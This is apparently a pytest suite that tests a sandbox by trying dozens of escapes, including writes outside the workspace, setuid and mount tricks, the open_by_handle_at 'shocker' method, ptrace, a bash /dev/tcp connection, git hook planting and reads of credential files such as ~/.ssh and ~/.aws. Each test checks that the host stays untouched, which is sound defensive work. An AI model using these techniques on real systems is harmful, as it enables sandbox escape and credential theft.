"""The escape suite: each test is one attempt to get out of the floor, checked on the host.

Every attempt runs twice: as the user running the tests (root here and in CI, the case where
`--cap-drop ALL` and RLIMIT_NPROC matter most) and as a throwaway unprivileged account. See
escape_kit.py for the arena and the host-side checks.
"""

# Host-side checks stat small scratch trees after the sandbox has ended; blocking is fine.
# ruff: noqa: ASYNC240

from __future__ import annotations

import json
import os
import pty
import shutil
import socket
import stat
import subprocess
import sys
import tty
import uuid
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest

from sandbox.host import SandboxHost
from sandbox.run import RunAs
from sandbox.spec import DEFAULT_DENY_READ, DEFAULT_PROTECTED, Bind, Limits
from tests.sandbox.conftest import accounts_lock
from tests.sandbox.escape_kit import (
    ORIGINAL,
    Arena,
    Outcome,
    Who,
    assert_gone,
    nothing_pending,
    unchanged,
)

AttemptFn = Callable[[Arena], Awaitable[None]]


@dataclass(frozen=True)
class Attempt:
    name: str
    fn: AttemptFn


ATTEMPTS: list[Attempt] = []


def attempt(name: str) -> Callable[[AttemptFn], AttemptFn]:
    def register(fn: AttemptFn) -> AttemptFn:
        ATTEMPTS.append(Attempt(name, fn))
        return fn

    return register


@pytest.fixture(params=["host", "unpriv"])
def arena(
    request: pytest.FixtureRequest,
    scratch: Path,
    host: SandboxHost,
    unprivileged: RunAs | None,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Arena]:
    who: Who = request.param
    if who == "unpriv" and unprivileged is None:
        pytest.skip("needs root and useradd to create an unprivileged account")
    run_as = unprivileged if who == "unpriv" else None
    arena = Arena(
        who=who,
        base=scratch,
        host=host,
        run_as=run_as,
        monkeypatch=monkeypatch,
        token=f"warren-escape-{uuid.uuid4().hex[:12]}",
    )
    arena.prepare()
    yield arena
    arena.close()


# --------------------------------------------------------------------------------------
# Writes outside the workspace
# --------------------------------------------------------------------------------------


@attempt("write_outside_absolute")
async def _(a: Arena) -> None:
    out = await a.py('t("w", w, A["outside"] + "/escape")')
    out.assert_refused("w")
    assert not (a.outside / "escape").exists()


@attempt("write_outside_relative_dotdot")
async def _(a: Arena) -> None:
    out = await a.py('t("w", w, "../outside/escape")')
    out.assert_refused("w")
    assert not (a.outside / "escape").exists()


@attempt("write_outside_deep_dotdot")
async def _(a: Arena) -> None:
    out = await a.py('t("w", w, A["ws"] + "/sub/../../outside/escape")')
    out.assert_refused("w")
    assert not (a.outside / "escape").exists()


@attempt("write_outside_openat_dotdot")
async def _(a: Arena) -> None:
    out = await a.py(
        "fd = os.open(A['ws'], os.O_RDONLY)\n"
        "t('w', lambda: os.open('../outside/escape', os.O_CREAT | os.O_WRONLY, 0o644, "
        "dir_fd=fd))"
    )
    out.assert_refused("w")
    assert not (a.outside / "escape").exists()


@attempt("write_root_directory")
async def _(a: Arena) -> None:
    out = await a.py('t("w", w, "/" + A["token"])')
    out.assert_refused("w")
    assert not Path("/", a.token).exists()


@attempt("write_etc")
async def _(a: Arena) -> None:
    out = await a.py('t("w", w, "/etc/" + A["token"])\nt("passwd", app, "/etc/passwd", "x")')
    out.assert_refused("w", "passwd")
    assert not Path("/etc", a.token).exists()


@attempt("write_host_tmp")
async def _(a: Arena) -> None:
    # /tmp is private: the write succeeds inside but must not reach the host's /tmp.
    out = await a.py('t("w", w, "/tmp/" + A["token"])')
    out.assert_ran()
    assert out.report["w"] == "ok", out.debug()
    assert not Path("/tmp", a.token).exists()


@attempt("write_host_dev_shm")
async def _(a: Arena) -> None:
    out = await a.py('t("w", w, "/dev/shm/" + A["token"])')
    out.assert_ran()
    assert not Path("/dev/shm", a.token).exists()


@attempt("write_var_tmp")
async def _(a: Arena) -> None:
    out = await a.py('t("w", w, "/var/tmp/" + A["token"])')
    out.assert_refused("w")
    assert not Path("/var/tmp", a.token).exists()


@attempt("write_home")
async def _(a: Arena) -> None:
    out = await a.py(
        't("w", w, os.environ["HOME"] + "/escape")\nt("rc", app, A["home"] + "/.bashrc")'
    )
    out.assert_refused("w", "rc")
    assert not (a.home / "escape").exists()
    assert not (a.home / ".bashrc").exists()


@attempt("write_invoking_users_home")
async def _(a: Arena) -> None:
    real_home = Path(os.path.expanduser("~"))
    out = await a.py(
        't("w", w, A["real_home"] + "/" + A["token"])', extra={"real_home": str(real_home)}
    )
    out.assert_refused("w")
    assert not (real_home / a.token).exists()


@attempt("modify_outside_file")
async def _(a: Arena) -> None:
    out = await a.py(
        't("append", app, A["outside"] + "/target.txt")\n'
        't("truncate", os.truncate, A["outside"] + "/target.txt", 0)'
    )
    out.assert_refused("append", "truncate")
    assert unchanged(a.outside / "target.txt")


@attempt("delete_outside_tree")
async def _(a: Arena) -> None:
    out = await a.py(
        "import shutil\n"
        't("unlink", os.unlink, A["outside"] + "/target.txt")\n'
        't("rmtree", shutil.rmtree, A["outside"])'
    )
    out.assert_refused("unlink", "rmtree")
    assert unchanged(a.outside / "target.txt")


@attempt("rename_out_of_workspace")
async def _(a: Arena) -> None:
    out = await a.py('t("mv", os.rename, A["ws"] + "/file.txt", A["outside"] + "/moved")')
    out.assert_refused("mv")
    assert not (a.outside / "moved").exists()
    assert unchanged(a.ws / "file.txt")


@attempt("symlink_to_outside_file")
async def _(a: Arena) -> None:
    out = await a.py(
        't("ln", os.symlink, A["outside"] + "/target.txt", A["ws"] + "/link")\n'
        't("w", w, A["ws"] + "/link")'
    )
    out.assert_refused("w")
    assert out.report["ln"] == "ok"  # the link itself is just a file in the workspace
    assert unchanged(a.outside / "target.txt")


@attempt("symlink_to_outside_dir")
async def _(a: Arena) -> None:
    out = await a.py(
        't("ln", os.symlink, A["outside"], A["ws"] + "/linkdir")\n'
        't("w", w, A["ws"] + "/linkdir/escape")'
    )
    out.assert_refused("w")
    assert not (a.outside / "escape").exists()


@attempt("hardlink_to_outside_file")
async def _(a: Arena) -> None:
    out = await a.py(
        't("ln", os.link, A["outside"] + "/target.txt", A["ws"] + "/hard")\n'
        't("w", app, A["ws"] + "/hard")'
    )
    out.assert_refused("ln")
    assert unchanged(a.outside / "target.txt")


@attempt("write_through_proc_root")
async def _(a: Arena) -> None:
    out = await a.py(
        't("w", w, "/proc/self/root" + A["outside"] + "/escape")\n'
        't("w1", w, "/proc/1/root" + A["outside"] + "/escape")'
    )
    out.assert_refused("w", "w1")
    assert not (a.outside / "escape").exists()


@attempt("mknod_devices")
async def _(a: Arena) -> None:
    out = await a.py(
        "import stat\n"
        't("chr", os.mknod, A["ws"] + "/mem", stat.S_IFCHR | 0o666, os.makedev(1, 1))\n'
        't("blk", os.mknod, A["ws"] + "/disk", stat.S_IFBLK | 0o666, os.makedev(8, 0))'
    )
    out.assert_refused("chr", "blk")
    assert not (a.ws / "mem").exists()
    assert not (a.ws / "disk").exists()


@attempt("read_host_block_device")
async def _(a: Arena) -> None:
    out = await a.py(
        'import glob\nt("devs", lambda: [d for d in glob.glob("/dev/*d[a-z]")])\n'
        't("mem", r, "/dev/mem")'
    )
    out.assert_refused("mem")
    assert out.report["devs"] == "ok:[]", out.debug()


# --------------------------------------------------------------------------------------
# Privileges: capabilities, setuid, mounts, namespaces
# --------------------------------------------------------------------------------------


@attempt("capabilities_empty")
async def _(a: Arena) -> None:
    out = await a.py(
        "for line in open('/proc/self/status'):\n"
        "    key, _, value = line.partition(':')\n"
        "    if key.startswith('Cap') or key == 'NoNewPrivs':\n"
        "        R[key] = value.strip()\n"
        "for line in open('/proc/1/status'):\n"
        "    if line.startswith('CapEff'):\n"
        "        R['init_CapEff'] = line.split()[1]"
    )
    out.assert_ran()
    for key in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "init_CapEff"):
        assert int(out.report[key], 16) == 0, out.debug()
    assert out.report["NoNewPrivs"] == "1"


@attempt("setuid_bit_via_chmod")
async def _(a: Arena) -> None:
    out = await a.py(
        "import shutil\n"
        'shutil.copy("/bin/sh", A["ws"] + "/suid-sh")\n'
        't("suid", os.chmod, A["ws"] + "/suid-sh", 0o4755)\n'
        't("sgid", os.chmod, A["ws"] + "/suid-sh", 0o2755)'
    )
    out.assert_refused("suid", "sgid")
    mode = (a.ws / "suid-sh").stat().st_mode
    assert not mode & (stat.S_ISUID | stat.S_ISGID)


@attempt("setuid_bit_via_open_mode")
async def _(a: Arena) -> None:
    out = await a.py(
        't("open", os.open, A["ws"] + "/suid2", os.O_CREAT | os.O_WRONLY, 0o4755)\n'
        't("mknod", os.mknod, A["ws"] + "/suid3", 0o104755)'
    )
    out.assert_refused("open", "mknod")
    for name in ("suid2", "suid3"):
        path = a.ws / name
        assert not path.exists() or not path.stat().st_mode & stat.S_ISUID


@attempt("host_setuid_binary_gains_nothing")
async def _(a: Arena) -> None:
    out = await a.sh(
        'mkdir -p "$1/m"; mount -t tmpfs none "$1/m" 2>&1; echo "mount=$?"; '
        'su -c "touch /$4" root 2>&1; echo "su=$?"'
    )
    text = out.result.stdout.decode()
    assert "mount=0" not in text, text
    assert not Path("/", a.token).exists()


@attempt("remount_root_read_write")
async def _(a: Arena) -> None:
    out = await a.sh('mount -o remount,rw / 2>&1; echo "rc=$?"; touch "/$4" 2>&1; true')
    assert "rc=0" not in out.result.stdout.decode()
    assert not Path("/", a.token).exists()


@attempt("bind_mount_outside_into_workspace")
async def _(a: Arena) -> None:
    out = await a.sh('mkdir -p "$1/m"; mount --bind "$2" "$1/m" 2>&1; echo "x" > "$1/m/escape"')
    assert not (a.outside / "escape").exists(), out.debug()


@attempt("unmount_read_only_root")
async def _(a: Arena) -> None:
    out = await a.sh('umount -l / 2>&1; umount "$1" 2>&1; echo pwned > "$2/escape" 2>&1; true')
    assert not (a.outside / "escape").exists(), out.debug()


@attempt("new_user_namespace")
async def _(a: Arena) -> None:
    out = await a.sh('unshare -Ur sh -c "mount -o remount,rw / && touch /$4" 2>&1; echo "rc=$?"')
    assert "rc=0" not in out.result.stdout.decode(), out.debug()
    assert not Path("/", a.token).exists()


@attempt("chroot_breakout")
async def _(a: Arena) -> None:
    out = await a.py('t("chroot", os.chroot, A["ws"] + "/sub")\nt("w", w, "/" + A["token"])')
    out.assert_refused("chroot", "w")
    assert not Path("/", a.token).exists()


@attempt("open_by_handle_at")
async def _(a: Arena) -> None:
    # The "shocker" escape: needs CAP_DAC_READ_SEARCH to open host files by handle.
    out = await a.py(
        "import ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "buf = ctypes.create_string_buffer(8 + 128)\n"
        "ctypes.memmove(buf, (128).to_bytes(4, 'little'), 4)\n"
        "mount_id = ctypes.c_int()\n"
        "rc = libc.name_to_handle_at(-100, b'/etc/hostname', buf, ctypes.byref(mount_id), 0)\n"
        "rc2 = libc.open_by_handle_at(os.open('/', os.O_RDONLY), buf, 0)\n"
        "R['open_by_handle'] = 'ok' if rc2 >= 0 else 'err:' + os.strerror(ctypes.get_errno())"
    )
    out.assert_refused("open_by_handle")


@attempt("kernel_keyring")
async def _(a: Arena) -> None:
    out = await a.py(
        "import ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "rc = libc.syscall(250, 0, -3, 0)  # keyctl(GET_KEYRING_ID, @s)\n"
        "R['keyctl'] = 'ok' if rc >= 0 else 'err:' + os.strerror(ctypes.get_errno())"
    )
    out.assert_refused("keyctl")


@attempt("io_uring_bypass")
async def _(a: Arena) -> None:
    out = await a.py(
        "import ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "params = ctypes.create_string_buffer(120)\n"
        "rc = libc.syscall(425, 8, params)  # io_uring_setup\n"
        "R['io_uring'] = 'ok' if rc >= 0 else 'err:' + os.strerror(ctypes.get_errno())"
    )
    out.assert_refused("io_uring")


@attempt("tiocsti_into_terminal")
async def _(a: Arena) -> None:
    master, slave = pty.openpty()
    a.closers += [lambda: os.close(master), lambda: os.close(slave)]
    tty.setraw(slave)
    out = await a.py(
        "import fcntl, termios\n"
        "t('sti', fcntl.ioctl, 0, termios.TIOCSTI, b'x')\n"
        "t('tty', os.open, '/dev/tty', os.O_RDWR)",
        stdin=slave,
    )
    out.assert_refused("sti", "tty")
    os.set_blocking(slave, False)
    with pytest.raises(BlockingIOError):
        os.read(slave, 16)  # nothing was pushed into the terminal's input queue


# --------------------------------------------------------------------------------------
# Host processes
# --------------------------------------------------------------------------------------


def _start_sleeper(a: Arena) -> subprocess.Popen[bytes]:
    marker = a.token + "-sleeper"
    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", marker])

    def stop() -> None:
        proc.kill()
        proc.wait()

    a.closers.append(stop)
    return proc


def _assert_untouched(proc: subprocess.Popen[bytes]) -> None:
    assert proc.poll() is None, "the host process was killed"
    status = Path(f"/proc/{proc.pid}/status").read_text()
    assert "TracerPid:\t0" in status
    assert psutil.Process(proc.pid).status() != psutil.STATUS_STOPPED


@attempt("see_host_processes")
async def _(a: Arena) -> None:
    sleeper = _start_sleeper(a)
    out = await a.py(
        "seen = []\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        try:\n"
        "            seen.append(open('/proc/%s/cmdline' % pid, 'rb').read())\n"
        "        except OSError:\n"
        "            pass\n"
        "R['count'] = str(len(seen))\n"
        "marker = (A['token'] + '-sl' + 'eeper').encode()\n"
        "R['sleeper_seen'] = str(any(marker in c for c in seen))"
    )
    out.assert_ran()
    assert out.report["sleeper_seen"] == "False"
    assert int(out.report["count"]) < 10, out.debug()
    _assert_untouched(sleeper)


@attempt("kill_host_process_by_pid")
async def _(a: Arena) -> None:
    sleeper = _start_sleeper(a)
    out = await a.py(
        "import signal\n"
        "t('kill', os.kill, A['pid'], signal.SIGKILL)\n"
        "t('test', os.kill, A['test_pid'], signal.SIGTERM)",
        extra={"pid": sleeper.pid},
    )
    out.assert_ran()
    _assert_untouched(sleeper)


@attempt("kill_every_process")
async def _(a: Arena) -> None:
    sleeper = _start_sleeper(a)
    out = await a.py("import signal\ndone()\nos.kill(-1, signal.SIGKILL)")
    out.assert_ran()
    _assert_untouched(sleeper)


@attempt("ptrace_host_process")
async def _(a: Arena) -> None:
    sleeper = _start_sleeper(a)
    out = await a.py(
        "import ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "rc = libc.ptrace(16, A['pid'], 0, 0)  # PTRACE_ATTACH\n"
        "R['attach'] = 'ok' if rc == 0 else 'err:' + os.strerror(ctypes.get_errno())\n"
        "t('mem', r, '/proc/%d/mem' % A['pid'])",
        extra={"pid": sleeper.pid},
    )
    out.assert_refused("attach", "mem")
    _assert_untouched(sleeper)


@attempt("inherited_file_descriptors")
async def _(a: Arena) -> None:
    # The test process holds listening sockets; none of its descriptors may leak inside.
    listener = a.tcp_listener()
    out = await a.py(
        "R['fds'] = json.dumps(sorted(int(fd) for fd in os.listdir('/proc/self/fd')))\n"
        "R['targets'] = json.dumps([os.readlink('/proc/self/fd/' + fd) "
        "for fd in os.listdir('/proc/self/fd') if os.path.exists('/proc/self/fd/' + fd)])"
    )
    out.assert_ran()
    fds = json.loads(out.report["fds"])
    assert fds[:3] == [0, 1, 2] and len(fds) <= 4, out.debug()  # + the listing itself
    assert "socket:" not in out.report["targets"]
    assert nothing_pending(listener)


@attempt("host_environment_via_proc")
async def _(a: Arena) -> None:
    secret = f"leak-{a.token}"
    a.monkeypatch.setenv("WARREN_ESCAPE_SECRET_TOKEN", secret)
    out = await a.py(
        "t('init', r, '/proc/1/environ')\n"
        "t('self', r, '/proc/self/environ')\n"
        "t('parent', r, '/proc/%d/environ' % os.getppid())"
    )
    out.assert_ran()
    assert secret.encode() not in out.output


@attempt("background_process_outlives_call")
async def _(a: Arena) -> None:
    out = await a.sh(
        'nohup /usr/bin/env python3 -c "import time; time.sleep(300)" "$4" >/dev/null 2>&1 & '
        "echo started"
    )
    assert b"started" in out.result.stdout
    await assert_gone(a.token)


@attempt("daemonized_process_outlives_call")
async def _(a: Arena) -> None:
    out = await a.py(
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execv(sys.executable, [sys.executable, '-c', "
        "'import time; time.sleep(300)', A['token']])\n"
        "    os._exit(0)\n"
        "os.wait()"
    )
    out.assert_ran()
    await assert_gone(a.token)


# --------------------------------------------------------------------------------------
# Network
# --------------------------------------------------------------------------------------


@attempt("tcp_to_host_loopback")
async def _(a: Arena) -> None:
    listener = a.tcp_listener()
    port = listener.getsockname()[1]
    out = await a.py(
        "import socket\n"
        "t('tcp', lambda: socket.create_connection(('127.0.0.1', A['port']), timeout=2))\n"
        "t('localhost', lambda: socket.create_connection(('localhost', A['port']), timeout=2))",
        extra={"port": port},
    )
    out.assert_refused("tcp", "localhost")
    assert nothing_pending(listener)


@attempt("tcp_to_host_ipv6_loopback")
async def _(a: Arena) -> None:
    try:
        listener = a.tcp_listener("::1")
    except OSError:
        pytest.skip("no IPv6 loopback on this host")
    out = await a.py(
        "import socket\nt('tcp6', lambda: socket.create_connection(('::1', A['port']), timeout=2))",
        extra={"port": listener.getsockname()[1]},
    )
    out.assert_refused("tcp6")
    assert nothing_pending(listener)


@attempt("tcp_to_host_interface_address")
async def _(a: Arena) -> None:
    addresses = [
        snic.address
        for snics in psutil.net_if_addrs().values()
        for snic in snics
        if snic.family.name == "AF_INET" and not snic.address.startswith("127.")
    ]
    if not addresses:
        pytest.skip("no non-loopback IPv4 address on this host")
    listener = a.tcp_listener("0.0.0.0")
    out = await a.py(
        "import socket\n"
        "t('tcp', lambda: socket.create_connection((A['addr'], A['port']), timeout=2))",
        extra={"port": listener.getsockname()[1], "addr": addresses[0]},
    )
    out.assert_refused("tcp")
    assert nothing_pending(listener)


@attempt("udp_to_host")
async def _(a: Arena) -> None:
    listener = a.udp_listener()
    out = await a.py(
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "t('udp', s.sendto, b'escape', ('127.0.0.1', A['port']))\n"
        "t('udp2', lambda: s.connect(('127.0.0.1', A['port'])) or s.send(b'x'))",
        extra={"port": listener.getsockname()[1]},
    )
    out.assert_ran()
    assert nothing_pending(listener)


@attempt("dns_lookup")
async def _(a: Arena) -> None:
    out = await a.py(
        "import socket\n"
        "t('dns', socket.getaddrinfo, 'example.com', 443)\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.settimeout(1)\n"
        "t('resolver', lambda: s.sendto(b'q', ('8.8.8.8', 53)) and s.recv(512))"
    )
    out.assert_refused("dns", "resolver")


@attempt("bash_dev_tcp")
async def _(a: Arena) -> None:
    if shutil.which("bash") is None:
        pytest.skip("no bash on this host")
    listener = a.tcp_listener()
    port = listener.getsockname()[1]
    out = await a.sh(f'bash -c "echo escape > /dev/tcp/127.0.0.1/{port}" 2>&1; echo "rc=$?"')
    assert "rc=0" not in out.result.stdout.decode(), out.debug()
    assert nothing_pending(listener)


@attempt("raw_and_packet_sockets")
async def _(a: Arena) -> None:
    out = await a.py(
        "import socket\n"
        "t('raw', socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
        "t('packet', socket.socket, socket.AF_PACKET, socket.SOCK_RAW)\n"
        "t('vsock', socket.socket, socket.AF_VSOCK, socket.SOCK_STREAM)"
    )
    out.assert_refused("raw", "packet", "vsock")


@attempt("unix_socket_next_to_workspace")
async def _(a: Arena) -> None:
    listener = a.unix_listener(a.outside / "agent.sock")
    out = await a.py(
        "import socket\n"
        "def connect():\n"
        "    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "    s.connect(A['outside'] + '/agent.sock')\n"
        "t('unix', connect)"
    )
    out.assert_refused("unix")
    assert nothing_pending(listener)


@attempt("unix_socket_in_home")
async def _(a: Arena) -> None:
    listener = a.unix_listener(a.home / "bus.sock", socket.SOCK_DGRAM)
    out = await a.py(
        "import socket\n"
        "def connect():\n"
        "    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
        "    s.sendto(b'x', A['home'] + '/bus.sock')\n"
        "t('unix', connect)"
    )
    out.assert_refused("unix")
    assert nothing_pending(listener)


@attempt("unix_socket_abstract")
async def _(a: Arena) -> None:
    listener = a.unix_listener("\0" + a.token)
    script = (
        "import socket\n"
        "def connect():\n"
        "    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "    s.connect('\\0' + A['token'])\n"
        "t('abstract', connect)"
    )
    out = await a.py(script)
    out.assert_refused("abstract")
    # Even with AF_UNIX allowed, the abstract namespace belongs to the network namespace.
    out = await a.py(script, spec=a.spec(allow_unix_sockets=True))
    out.assert_refused("abstract")
    assert "ConnectionRefused" in out.report["abstract"], out.debug()
    assert nothing_pending(listener)


# --------------------------------------------------------------------------------------
# Protected paths inside a writable workspace, existing and missing
# --------------------------------------------------------------------------------------

_DIR_LIKE = {
    # protected directory -> the file an attacker would plant in it
    ".git/hooks": "pre-commit",
    ".git/modules": "config",
    ".warren": "policy.toml",
    ".vscode": "tasks.json",
    ".idea": "workspace.xml",
    ".github/workflows": "ci.yml",
}


def _make_protected_attempt(rel: str, existing: bool) -> AttemptFn:
    async def run(a: Arena) -> None:
        git = a.ws / ".git"
        git.mkdir()
        (git / "HEAD").write_text("ref: refs/heads/main\n")
        target = a.ws / rel
        is_dir = rel in _DIR_LIKE
        if existing:
            if is_dir:
                target.mkdir(parents=True)
                (target / "existing.txt").write_text(ORIGINAL)
            else:
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_text(ORIGINAL)
        a.own()
        control_dir = target.parent
        while not control_dir.exists():
            control_dir = control_dir.parent
        before = sorted(p.name for p in control_dir.iterdir())
        out = await a.py(
            "p = A['target']\n"
            "t('sibling', w, A['control_dir'] + '/sibling-' + A['token'])\n"
            "if A['is_dir']:\n"
            "    t('mkdirs', os.makedirs, p, exist_ok=True)\n"
            "    t('new', w, p + '/' + A['plant'])\n"
            "    t('modify', app, p + '/existing.txt')\n"
            "    t('rename', os.rename, p, p + '.moved')\n"
            "    t('rmdir', os.rmdir, p)\n"
            "else:\n"
            "    t('write', w, p)\n"
            "    t('append', app, p)\n"
            "    t('unlink', os.unlink, p)\n"
            "    w(A['control_dir'] + '/tmp-' + A['token'])\n"
            "    t('replace', os.replace, A['control_dir'] + '/tmp-' + A['token'], p)\n",
            extra={
                "target": str(target),
                "is_dir": is_dir,
                "control_dir": str(control_dir),
                "plant": _DIR_LIKE.get(rel, ""),
            },
        )
        out.assert_ran()
        assert out.report["sibling"] == "ok", f"the parent should stay writable: {out.debug()}"
        if not existing:
            # Nothing is mounted over a missing name (no placeholder in the user's tree): the
            # sandbox may create it, and the guard removes it when the sandbox ends.
            assert not os.path.lexists(target), f"{target} exists after the sandbox"
            after = sorted(
                p.name for p in control_dir.iterdir() if a.token not in p.name and
                not p.name.endswith(".moved") and p.name != ".github"
            )  # fmt: skip
            assert after == before
            return
        if is_dir:
            for name in ("new", "modify", "rename"):
                assert out.refused(name), f"{name}: {out.debug()}"
            assert not (target / _DIR_LIKE[rel]).exists()
            assert not Path(str(target) + ".moved").exists()
        else:
            for name in ("write", "append", "unlink", "replace"):
                assert out.refused(name), f"{name}: {out.debug()}"
        assert unchanged(target / "existing.txt" if is_dir else target)

    return run


for _entry in DEFAULT_PROTECTED:
    for _existing in (True, False):
        _label = "existing" if _existing else "missing"
        ATTEMPTS.append(
            Attempt(
                f"protected[{_entry.path}]-{_label}",
                _make_protected_attempt(_entry.path, _existing),
            )
        )


@attempt("git_dir_renamed_away")
async def _(a: Arena) -> None:
    (a.ws / ".git" / "hooks").mkdir(parents=True)
    (a.ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    a.own()
    out = await a.py(
        "g = A['ws'] + '/.git'\n"
        "t('mv', os.rename, g, g + '2')\n"
        "t('mkdir', os.makedirs, g + '/hooks', exist_ok=True)\n"
        "t('hook', w, g + '/hooks/pre-commit')"
    )
    out.assert_refused("mv", "hook")
    assert not (a.ws / ".git2").exists()
    assert not (a.ws / ".git" / "hooks" / "pre-commit").exists()
    assert (a.ws / ".git" / "HEAD").exists()


def _undone(out: Outcome) -> set[str]:
    """The paths the guard reported removing."""
    return {m.split()[2].rstrip(":") for m in out.result.undone}


@attempt("git_hook_via_commondir_redirect")
async def _(a: Arena) -> None:
    (a.ws / ".git" / "hooks").mkdir(parents=True)
    a.own()
    out = await a.py(
        "os.makedirs(A['ws'] + '/evil/hooks')\n"
        "w(A['ws'] + '/evil/hooks/pre-commit', '#!/bin/sh\\necho pwned\\n')\n"
        "t('commondir', w, A['ws'] + '/.git/commondir', A['ws'] + '/evil')\n"
        "t('hooks_path', app, A['ws'] + '/.git/config', '[core]\\nhooksPath = evil/hooks\\n')"
    )
    # Missing names are not mounted over: the guard removes them when the sandbox ends,
    # before any git outside could follow them.
    out.assert_ran()
    assert not (a.ws / ".git" / "commondir").exists()
    assert not (a.ws / ".git" / "config").exists()
    assert {".git/commondir", ".git/config"} <= _undone(out)


@attempt("git_init_in_plain_directory")
async def _(a: Arena) -> None:
    out = await a.py(
        "t('mkdir', os.makedirs, A['ws'] + '/.git/hooks', exist_ok=True)\n"
        "t('hook', w, A['ws'] + '/.git/hooks/pre-commit')"
    )
    out.assert_ran()
    assert not (a.ws / ".git").exists()
    assert ".git" in _undone(out)


@attempt("protected_via_symlink_and_hardlink")
async def _(a: Arena) -> None:
    (a.ws / ".git" / "hooks").mkdir(parents=True)
    (a.ws / ".git" / "config").write_text(ORIGINAL)
    a.own()
    out = await a.py(
        "t('ln', os.symlink, A['ws'] + '/.git/hooks', A['ws'] + '/h')\n"
        "t('via_link', w, A['ws'] + '/h/pre-commit')\n"
        "t('hard', os.link, A['ws'] + '/.git/config', A['ws'] + '/cfg')\n"
        "t('umount', os.system, 'umount ' + A['ws'] + '/.git/hooks 2>/dev/null')\n"
        "t('after_umount', w, A['ws'] + '/.git/hooks/pre-commit')"
    )
    out.assert_refused("via_link", "hard", "after_umount")
    assert not (a.ws / ".git" / "hooks" / "pre-commit").exists()
    assert unchanged(a.ws / ".git" / "config")


def _git(*args: str | Path) -> None:
    subprocess.run(
        [
            "git",
            "-c",
            "user.email=t@example.com",
            "-c",
            "user.name=t",
            "-c",
            "init.defaultBranch=main",
            *map(str, args),
        ],
        check=True,
        capture_output=True,
    )


async def _worktree(a: Arena) -> tuple[Path, Path]:
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    main = a.base / "main"
    _git("init", "-q", main)
    _git("-C", main, "commit", "-q", "--allow-empty", "-m", "init")
    shutil.rmtree(a.ws)
    _git("-C", main, "worktree", "add", "-q", a.ws)
    a.own()
    return main / ".git", main / ".git" / "worktrees" / "ws"


@attempt("worktree_common_gitdir_hooks")
async def _(a: Arena) -> None:
    common, gitdir = await _worktree(a)
    spec = a.spec(extra_binds=[Bind(path=common, mode="rw")])
    out = await a.py(
        "t('hook', w, A['common'] + '/hooks/pre-commit')\n"
        "t('config', app, A['common'] + '/config', '[core]\\nhooksPath=/x\\n')\n"
        "t('index_ok', w, A['gitdir'] + '/scratch-' + A['token'])",
        spec=spec,
        extra={"common": str(common), "gitdir": str(gitdir)},
    )
    out.assert_refused("hook", "config")
    assert out.report["index_ok"] == "ok", "the worktree's own gitdir stays writable"
    assert not (common / "hooks" / "pre-commit").exists()
    assert "hooksPath" not in (common / "config").read_text()


@attempt("worktree_gitdir_pointer_redirect")
async def _(a: Arena) -> None:
    common, gitdir = await _worktree(a)
    pointer = (a.ws / ".git").read_text()
    commondir = (gitdir / "commondir").read_text()
    spec = a.spec(extra_binds=[Bind(path=common, mode="rw")])
    out = await a.py(
        "t('pointer', w, A['ws'] + '/.git', 'gitdir: ' + A['ws'] + '/evil')\n"
        "t('unlink', os.unlink, A['ws'] + '/.git')\n"
        "t('commondir', w, A['gitdir'] + '/commondir', A['ws'] + '/evil')",
        spec=spec,
        extra={"gitdir": str(gitdir)},
    )
    out.assert_refused("pointer", "unlink", "commondir")
    assert (a.ws / ".git").read_text() == pointer
    assert (gitdir / "commondir").read_text() == commondir


@attempt("git_commit_still_works_in_worktree")
async def _(a: Arena) -> None:
    common, _ = await _worktree(a)
    spec = a.spec(extra_binds=[Bind(path=common, mode="rw")])
    out = await a.sh(
        'cd "$1" && echo hi > new.txt && git add new.txt && '
        "git -c user.email=t@e -c user.name=t -c safe.directory='*' commit -qm inside "
        "&& echo committed",
        spec=spec,
    )
    assert b"committed" in out.result.stdout, out.debug()
    assert not (common / "hooks" / "pre-commit").exists()


# --------------------------------------------------------------------------------------
# Secrets
# --------------------------------------------------------------------------------------

SECRET_LAYOUT: dict[str, str | None] = {
    "~/.ssh": "id_ed25519",
    "~/.gnupg": "private-keys-v1.d/key.key",
    "~/.aws": "credentials",
    "~/.azure": "msal_token_cache.json",
    "{config}/gcloud": "credentials.db",
    "~/.kube": "config",
    "~/.docker": "config.json",
    "~/.netrc": None,
    "~/.pypirc": None,
    "~/.npmrc": None,
    "~/.git-credentials": None,
    "{config}/gh": "hosts.yml",
    "{config}/warren": "credentials.toml",
    "{state}/warren": "sessions/1.jsonl",
    "~/.vault-token": None,
    "~/.cargo/credentials": None,
    "~/.cargo/credentials.toml": None,
    "~/.password-store": "bank.gpg",
    "~/.local/share/keyrings": "login.keyring",
    "~/.ray/auth_token": None,
}
"""A file to plant for every home-relative default secret (None: the pattern is the file)."""


def test_every_home_secret_has_an_escape_attempt() -> None:
    home_patterns = {p for p in DEFAULT_DENY_READ if p.startswith(("~", "{"))}
    assert home_patterns == set(SECRET_LAYOUT)


def _home_path(a: Arena, pattern: str) -> Path:
    return Path(
        pattern.replace("~", str(a.home), 1)
        .replace("{config}", str(a.home / ".config"))
        .replace("{state}", str(a.home / ".local" / "state"))
    )


def _make_secret_attempt(pattern: str, inner: str | None) -> AttemptFn:
